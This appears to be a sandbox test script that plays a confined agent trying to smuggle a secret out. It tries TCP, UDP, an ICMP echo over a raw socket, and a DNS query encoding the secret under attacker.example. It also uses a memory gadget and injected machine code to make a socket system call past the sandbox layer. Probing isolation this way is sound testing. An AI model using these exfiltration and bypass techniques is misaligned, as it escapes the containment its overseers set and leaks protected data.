#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""agent.py - what an agent in a sandbox tries; agent.sh starts it

It fetches a page of the one index that it may reach. Then it tries to carry a secret out, by each way that it can think of.
"""
import ctypes
import errno
import mmap
import re
import socket
import struct
import urllib.request

INDEX = "https://pypi.org/simple/six/"
ELSEWHERE = "1.1.1.1"
SECRET = "c2VjcmV0"


def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as page:
            return f"{page.status}"
    except OSError as why:
        return f"no: {why}"


def lookup(name):
    try:
        return socket.getaddrinfo(name, 443)[0][4][0]
    except socket.gaierror as why:
        return f"no: {why}"


def tcp(port):
    try:
        socket.create_connection((ELSEWHERE, port), timeout=3).close()
        return "connected"
    except OSError as why:
        return f"no: {why}"


def udp(port):
    """A datagram, and another one to hear what became of the first."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as tunnel:
            tunnel.settimeout(1)
            tunnel.connect((ELSEWHERE, port))
            tunnel.send(SECRET.encode())
            return f"answered: {tunnel.recv(512)}"
    except OSError as why:
        return f"no: {why}"


def raw():
    """Root on its own node, it may make raw sockets there: an echo request, which carries the secret."""
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + SECRET.encode()
    total = sum(struct.unpack(f"!{len(echo) // 2}H", echo))
    total = (total >> 16) + (total & 0xffff)
    echo = echo[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + echo[4:]
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(1)
            sock.sendto(echo, (ELSEWHERE, 0))
            while True:
                packet, peer = sock.recvfrom(2048)
                if peer[0] == ELSEWHERE and packet[20] == 0:
                    return "answered"
    except OSError as why:
        return f"no: {why}"


def dns():
    """A question for a name of the attacker's, whose server would read it."""
    with open("/etc/resolv.conf") as file:
        server = re.search(r"^nameserver\s+(\S+)", file.read(), re.MULTILINE)[1]
    name = b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"attacker", b"example")) + b"\0"
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 16, 1), (server, 53))
        try:
            code = sock.recv(512)[3] & 15
        except OSError as why:
            return f"no: {why}"
    return {0: "answered", 3: "answered: no such name", 5: "no: REFUSED"}.get(code, f"code {code}")


def host_socket():
    """socket(AF_INET) asked of the host itself, past the node: by a system call of ring3's own code, which the node does not see."""
    call = None
    with open("/proc/self/maps") as maps:
        for start, end, rights in re.findall(r"^(\w+)-(\w+) (\S+)", maps.read(), re.MULTILINE):
            start, end = int(start, 16), int(end, 16)
            if 0x550000000000 <= start < 0x550800000000 and rights.startswith("r-x"):
                at = ctypes.string_at(start, end - start).find(b"\x0f\x05\xc3")    # syscall; ret
                call = start + at if at >= 0 else call
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov %rdi,%rax; mov %rsi,%rdi; mov %rdx,%rsi; mov %rcx,%rdx; movabs $call,%r11; jmp *%r11
    code.write(bytes.fromhex("4889f84889f74889d64889ca49bb") + struct.pack("<Q", call) + bytes.fromhex("41ffe3"))
    direct = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    got = direct(41, socket.AF_INET, socket.SOCK_STREAM, 0)
    return f"no: {errno.errorcode.get(-got, got)}" if got < 0 else "a socket of the host's"


print("the index:            ", fetch(INDEX))
print("another name:         ", lookup("example.com"))
print("an address:           ", tcp(443))
print("a tunnel over UDP:    ", udp(443))
print("another's name server:", udp(53))
print("a raw socket:         ", raw())
print("a name as a message:  ", dns())
print("the host, directly:   ", host_socket())
